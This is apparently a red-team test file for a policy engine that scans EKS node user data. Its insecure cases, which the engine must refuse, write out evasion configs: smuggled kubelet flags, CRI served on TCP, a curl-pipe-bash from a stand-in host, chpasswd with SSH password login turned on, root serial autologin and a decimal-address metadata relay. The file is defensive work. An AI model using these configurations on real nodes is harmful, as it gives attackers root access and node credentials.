// Red-team round 26 on EKS NODE user data and launchers (fresh eyes), against engine/userData.ts, engine/rootReads.ts
// and engine/shell.ts. Insecure shapes here reach the node's root, its SSH or console, its kubelet, its runtime or its
// instance metadata through forms the readers do not follow: one nodeadm kubelet flags entry holding several flags
// (nodeadm joins them into $NODEADM_KUBELET_ARGS, which systemd splits at whitespace), containerd's CRI served on TCP,
// systemd specifiers naming /run and /var/lib, cloud-init's power_state condition (a shell command), cloud-init's
// key spellings it normalises (`-` read as `_`, the singular `user:`), a serial-console autologin, and the metadata
// address in another notation. Secure neighbours must stay clean. The pack's misses are `it.skip` (describeNodeCases
// `skip`) with a MISS comment and the doc checked.
import { nodePolicyConfig } from "./packRunner";
import {
    al2023Nodes,
    describeNodeCases,
    EFFECTIVE,
    hostPathDaemonSet,
    NodeCase,
    nodeConfig,
    rootNoCaps,
    SSH_KEY,
    withCloudConfig,
    withPart,
} from "./nodeBuilders";
import { Resources } from "./support";

/** An AL2023 node group of the dev stack with `userData`, beside a Baseline DaemonSet (uid 0, no capabilities) writing `dir`. */
const withDataWriter = (r: Resources, name: string, userData: string, dir = "/data") => {
    al2023Nodes(r, name, userData);
    hostPathDaemonSet(r, `${name}-data`, "node-agents", dir, rootNoCaps);
};

/** cloud-config write_files lines writing `content` to `path`. */
const writeFile = (path: string, content: string[]) => [
    `  - path: ${path}`,
    "    content: |",
    ...content.map(l => `      ${l}`),
];

/** AL2023 user data whose second NodeConfig carries `spec` lines (under spec:, after the cluster block). */
const withNodeConfig = (spec: string[]) => withPart({ type: "application/node.eks.aws", body: nodeConfig(spec) });

/** Two PEM blocks (base64 of their text): the cluster's CA and a second CA, as one bundle. */
const caBundle = Buffer.from(
    [
        "-----BEGIN CERTIFICATE-----",
        "MIIClusterCAExampleOnly",
        "-----END CERTIFICATE-----",
        "-----BEGIN CERTIFICATE-----",
        "MIIProxyCAExampleOnly",
        "-----END CERTIFICATE-----",
    ].join("\n"),
).toString("base64");

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 26): nodeadm (amazon-eks-ami nodeadm/internal/kubelet/environment.go writeKubeletEnvironment) appends the
    // NodeConfig's kubelet.flags entries as they are and joins everything with " " into NODEADM_KUBELET_ARGS in
    // /etc/eks/kubelet/environment; kubelet.service runs `ExecStart=/usr/bin/kubelet $NODEADM_KUBELET_ARGS`
    // (templates/al2023/runtime/rootfs/etc/systemd/system/kubelet.service), and systemd.service(5) "Command lines":
    // an unbraced `$FOO` "will be replaced by the value of the environment variable split at whitespace". So one
    // entry "--node-labels=... --read-only-port=10255" is two kubelet flags: the unauthenticated read-only port serves
    // /pods (every pod spec, env values included). userData.ts kubeletFlagOpenings reads the entry as one flag
    // (--node-labels with value "... --read-only-port=10255"), and the NodeConfig part gets no free-text reading.
    {
        name: "a NodeConfig kubelet.flags entry holding two flags (--node-labels=... --read-only-port=10255): nodeadm joins, systemd splits",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-joined-flags-nodes",
                withNodeConfig([
                    "  kubelet:",
                    "    flags:",
                    '      - "--node-labels=tier=validators --read-only-port=10255"',
                ]),
            ),
        refused: /read-only/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): the same split (nodeadm joins kubelet.flags with spaces, systemd splits $NODEADM_KUBELET_ARGS at
    // whitespace) hides --authorization-mode=AlwaysAllow: the kubelet API (exec into every pod on the node) stops
    // asking the API server (kubelet reference: command-line flags override the config file). Refused when it is an
    // entry of its own; here it is read as the value of --max-pods.
    {
        name: "a NodeConfig kubelet.flags entry '--max-pods=58 --authorization-mode=AlwaysAllow' (one entry, two kubelet flags)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-joined-authz-nodes",
                withNodeConfig([
                    "  kubelet:",
                    "    flags:",
                    '      - "--max-pods=58 --authorization-mode=AlwaysAllow"',
                ]),
            ),
        refused: /AlwaysAllow/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): containerd docs/cri/config.md: `disable_tcp_service disables serving CRI on the TCP server. Note that a TCP
    // server is enabled for containerd if TCPAddress is set in section [grpc].` With [grpc] tcp_address on the node's
    // interfaces and disable_tcp_service = false, the CRI API (RunPodSandbox/CreateContainer with privileged: true,
    // host mounts, ExecSync) is served without authentication to anyone reaching the port: every pod of the node
    // network. userData.ts CONTAINERD_KEYS knows runtimes/base_runtime_spec, not the gRPC listener.
    {
        name: "a NodeConfig containerd.config serving the CRI API on TCP ([grpc] tcp_address 0.0.0.0:10010, disable_tcp_service = false)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-cri-tcp-nodes",
                withNodeConfig([
                    "  containerd:",
                    "    config: |",
                    "      [grpc]",
                    '      tcp_address = "0.0.0.0:10010"',
                    '      [plugins."io.containerd.grpc.v1.cri"]',
                    "      disable_tcp_service = false",
                ]),
            ),
        refused: /tcp/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): systemd.unit(5) "Specifiers": %t is the "Runtime directory root", /run for the system manager, and Exec
    // command lines resolve specifiers. ExecStart=%t/spire/hooks/boot.sh runs /run/spire/hooks/boot.sh as root,
    // a file the DaemonSet writing /run/spire (podSpec.ts WRITABLE_DATA) chose. rootReads.pathsIn finds no absolute
    // path in "%t/spire/..." (a `/` after a letter), so the unit reads as naming no data directory. The same line with
    // /run/spire is refused.
    {
        name: "a root unit with ExecStart=%t/spire/hooks/boot.sh (%t is /run for the system manager), beside a DaemonSet writing /run/spire",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            withDataWriter(
                r,
                "dev-specifier-run-nodes",
                withCloudConfig([
                    "write_files:",
                    ...writeFile("/etc/systemd/system/spire-boot-hook.service", [
                        "[Unit]",
                        "Description=SPIRE boot hook",
                        "[Service]",
                        "Type=oneshot",
                        "ExecStart=%t/spire/hooks/boot.sh",
                        "[Install]",
                        "WantedBy=multi-user.target",
                    ]),
                    "runcmd:",
                    "  - systemctl enable --now spire-boot-hook.service",
                ]),
                "/run/spire",
            ),
        refused: /spire/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): systemd.unit(5) "Specifiers": %S is the "State directory root", /var/lib for the system manager. The root
    // unit copies %S/kubelet/pki (the kubelet's client certificate and key: /var/lib/kubelet/pki) into /data, where
    // the DaemonSet reads it and acts as the node. A copy of node secrets into a data directory is refused when
    // written /var/lib/kubelet/pki (rootReads refuseSecrets); the specifier hides the source. (The unit is not named
    // kubelet-*: NODE_CONFIG_PATHS refuses any unit file whose name starts with kubelet, whatever it holds.)
    {
        name: "a root unit copying %S/kubelet/pki (the kubelet's client key under /var/lib) into /data/backup",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            withDataWriter(
                r,
                "dev-specifier-state-nodes",
                withCloudConfig([
                    "write_files:",
                    ...writeFile("/etc/systemd/system/node-pki-backup.service", [
                        "[Service]",
                        "Type=oneshot",
                        "ExecStart=/usr/bin/cp -a %S/kubelet/pki /data/backup/",
                        "[Install]",
                        "WantedBy=multi-user.target",
                    ]),
                    "runcmd:",
                    "  - systemctl enable --now node-pki-backup.service",
                ]),
            ),
        refused: /pki/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): cloud-init cc_power_state_change.check_condition runs `condition` with
    // subprocess.Popen(cond, shell=not isinstance(cond, list)) as root once cloud-init's final stage ends (module
    // reference "Power State Change": condition "a command string or list to be executed"; ALL_DISTROS). A download
    // piped into bash there is the refused `curl ... | bash` (round 25) in another key: userData.ts reads keys other
    // than runcmd/bootcmd/write_files only for data directories and metadata addresses (rootReads.generic).
    {
        name: "a cloud-config power_state whose condition runs curl -fsSL https://bootstrap.example.com/node.sh | bash (cloud-init runs it through a shell as root)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-power-condition-nodes",
                withCloudConfig([
                    "power_state:",
                    "  mode: reboot",
                    "  delay: now",
                    '  condition: "curl -fsSL https://bootstrap.example.com/node.sh | bash && test -f /var/run/reboot-required"',
                ]),
            ),
        refused: /bootstrap\.example\.com|fetched/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): the same power_state condition (a root shell command) setting ec2-user's password and turning on sshd's
    // password logins through a drop-in. Both are refused in runcmd or a shell part (nodeJudge.ran chpasswd,
    // sshdOpenings on the written drop-in); sshdOpenings' free-text reading of the cloud-config body only matches a
    // keyword at a line's start, and here it follows `echo '`.
    {
        name: "a cloud-config power_state condition running chpasswd for ec2-user and echoing PasswordAuthentication yes into sshd_config.d",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-power-password-nodes",
                withCloudConfig([
                    "power_state:",
                    "  mode: reboot",
                    "  condition: \"echo 'ec2-user:Node-Debug-2024' | chpasswd && echo 'PasswordAuthentication yes' > /etc/ssh/sshd_config.d/01-debug.conf && false\"",
                ]),
            ),
        refused: /password/i,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): cloud-init distros/ug_util.py normalize_users_groups: a top-level `user:` dict is merged into the default
    // user's configuration (cloud-config "Users and Groups": "user: ... override the default_user configuration"),
    // and _normalize_users rewrites every key with k.replace("-", "_"): `ssh-authorized-keys` becomes
    // ssh_authorized_keys and create_user installs the key for ec2-user. userData.ts checks c.users entries (not
    // c.user) for keys; the free-text checks want `authorized_keys` or a line starting with ssh_authorized_keys.
    {
        name: "a cloud-config singular `user:` in flow style with ssh-authorized-keys (cloud-init maps `-` to `_` and merges it into ec2-user)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-singular-user-nodes",
                withCloudConfig([`user: {name: ec2-user, ssh-authorized-keys: ["${SSH_KEY}"]}`]),
            ),
        refused: /SSH key/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): the same normalisation (ug_util._normalize_users: k.replace("-", "_")) makes `plain-text-passwd` the
    // plain_text_passwd create_user sets with chpasswd, and `lock-passwd: false` unlocks it: a password login for a
    // sudoer (EC2 serial console, or SSH once password logins are on). userData.ts checks passwd/plain_text_passwd/
    // hashed_passwd spelled with underscores only.
    {
        name: "a cloud-config users entry with plain-text-passwd and lock-passwd: false (hyphen spellings cloud-init maps to plain_text_passwd)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-hyphen-password-nodes",
                withCloudConfig([
                    "users:",
                    "  - default",
                    "  - name: nodeops",
                    "    groups: wheel",
                    '    sudo: "ALL=(ALL) NOPASSWD:ALL"',
                    "    lock-passwd: false",
                    "    plain-text-passwd: Node-Debug-2024",
                ]),
            ),
        refused: /password/i,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): agetty(8) --autologin: "Automatically log in the specified user without asking for a username or
    // password". A serial-getty@ttyS0 drop-in replacing ExecStart with `agetty --autologin root` gives a root shell to
    // whoever opens the instance's EC2 serial console (ec2-instance-connect:SendSerialConsoleSSHPublicKey), no key or
    // password of the node's: the same access the pack refuses for a password set by user data.
    {
        name: "a serial-getty@ttyS0 drop-in running agetty --autologin root (a root shell on the EC2 serial console, no password)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-serial-autologin-nodes",
                withCloudConfig([
                    "write_files:",
                    ...writeFile("/etc/systemd/system/serial-getty@ttyS0.service.d/autologin.conf", [
                        "[Service]",
                        "ExecStart=",
                        "ExecStart=-/sbin/agetty --autologin root --keep-baud 115200,57600,38400,9600 %I $TERM",
                    ]),
                ]),
            ),
        refused: /autologin|console/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): inet_aton(3) (which glibc's getaddrinfo uses for numeric hosts) reads "a.b.c.d, a.b.c, a.b, a" forms: a
    // single 32-bit number 2852039166 is 169.254.169.254. A root socat relaying a node port to TCP:2852039166:80 gives
    // every pod reaching the node the node role's credentials whatever the hop limit; userData.ts IMDS matches only
    // the dotted (and fd00:ec2::254) spellings.
    {
        name: "a root unit relaying instance metadata with the address as one number (socat ... TCP:2852039166:80)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-imds-decimal-nodes",
                withCloudConfig([
                    "write_files:",
                    ...writeFile("/etc/systemd/system/metadata-relay.service", [
                        "[Service]",
                        "ExecStart=/usr/bin/socat TCP-LISTEN:8181,fork,reuseaddr TCP:2852039166:80",
                        "[Install]",
                        "WantedBy=multi-user.target",
                    ]),
                    "runcmd:",
                    "  - systemctl enable --now metadata-relay.service",
                ]),
            ),
        refused: /metadata/,
        policy: EFFECTIVE,
    },
    // Was a MISS (fixed in round 26): nodeadm writes spec.cluster.certificateAuthority to /etc/kubernetes/pki/ca.crt, which is both the CA the
    // kubelet trusts for the API server and its authentication.x509.clientCAFile (userData.ts itself notes "nodeadm
    // writes the cluster CA here"). A bundle adding a second CA (a TLS-inspecting proxy's) lets certificates that CA
    // signs call the kubelet (O=system:masters passes the Webhook authorization: exec into every pod). The pack refuses
    // a clientCAFile other than ca.crt but never compares the bundle with the cluster's certificateAuthority.
    {
        name: "a NodeConfig whose cluster.certificateAuthority is a bundle of two CAs (the second becomes the kubelet's client CA too)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-ca-bundle-nodes",
                [
                    "apiVersion: node.eks.aws/v1alpha1",
                    "kind: NodeConfig",
                    "spec:",
                    "  cluster:",
                    "    name: dev-validators",
                    "    apiServerEndpoint: https://EXAMPLE.gr7.eu-west-1.eks.amazonaws.com",
                    `    certificateAuthority: ${caBundle}`,
                    "    cidr: 10.100.0.0/16",
                ].join("\n"),
            ),
        refused: /CA|certificate/,
        policy: EFFECTIVE,
    },
];

const secure: NodeCase[] = [
    // Each flag its own kubelet.flags entry (nodeadm docs' example), plus AWS's documented containerd example for
    // SOCI/lazy loading (discard_unpacked_layers = false).
    {
        name: "a NodeConfig with one flag per kubelet.flags entry (node labels, taints) and containerd discard_unpacked_layers = false",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-flags-each-nodes",
                withNodeConfig([
                    "  kubelet:",
                    "    flags:",
                    "      - --node-labels=tier=validators,team=custody",
                    "      - --register-with-taints=custody=true:NoSchedule",
                    "  containerd:",
                    "    config: |",
                    '      [plugins."io.containerd.grpc.v1.cri".containerd]',
                    "      discard_unpacked_layers = false",
                ]),
            ),
    },
    // cloud-init module reference, "Power State Change", example 2: reboot when a file exists.
    {
        name: "a cloud-config power_state rebooting when /var/run/reboot-required exists (cloud-init's documented example)",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-power-reboot-nodes",
                withCloudConfig([
                    "power_state:",
                    "  delay: now",
                    "  mode: reboot",
                    "  message: Rebooting after kernel update",
                    "  condition: test -f /var/run/reboot-required",
                ]),
            ),
    },
    // A root unit using %t for its own RuntimeDirectory socket (systemd.exec(5) RuntimeDirectory=): /run/node-tools.
    {
        name: "a root unit with RuntimeDirectory=node-tools serving on %t/node-tools/api.sock",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-runtime-dir-nodes",
                withCloudConfig([
                    "write_files:",
                    ...writeFile("/etc/systemd/system/node-tools.service", [
                        "[Service]",
                        "RuntimeDirectory=node-tools",
                        "ExecStart=/usr/local/bin/node-tools serve --socket %t/node-tools/api.sock",
                        "[Install]",
                        "WantedBy=multi-user.target",
                    ]),
                    "runcmd:",
                    "  - systemctl enable --now node-tools.service",
                ]),
            ),
    },
    // Was a MISS (secure, refused; fixed in round 26): sshd_config(5) AuthorizedKeysFile: "may be set to none to skip checking for user keys
    // in files"; AuthorizedKeysCommand defaults to none. With both none and passwords off no one logs in over SSH:
    // EKS best practices "Minimize access to worker nodes". sshdOpenings refuses any AuthorizedKeysFile/
    // AuthorizedKeysCommand line whatever its value (4 findings: the free-text and the drop-in reading each).
    {
        name: "an sshd drop-in turning key logins off (AuthorizedKeysFile none, AuthorizedKeysCommand none, PasswordAuthentication no)",
        stack: "dev",
        config: nodePolicyConfig,

        edit: r =>
            al2023Nodes(
                r,
                "dev-sshd-nokeys-nodes",
                withCloudConfig([
                    "write_files:",
                    ...writeFile("/etc/ssh/sshd_config.d/10-no-logins.conf", [
                        "AuthorizedKeysFile none",
                        "AuthorizedKeysCommand none",
                        "PasswordAuthentication no",
                        "PermitRootLogin no",
                    ]),
                ]),
            ),
    },
];

describeNodeCases("red team 26: EKS node user data and launchers", insecure, secure);
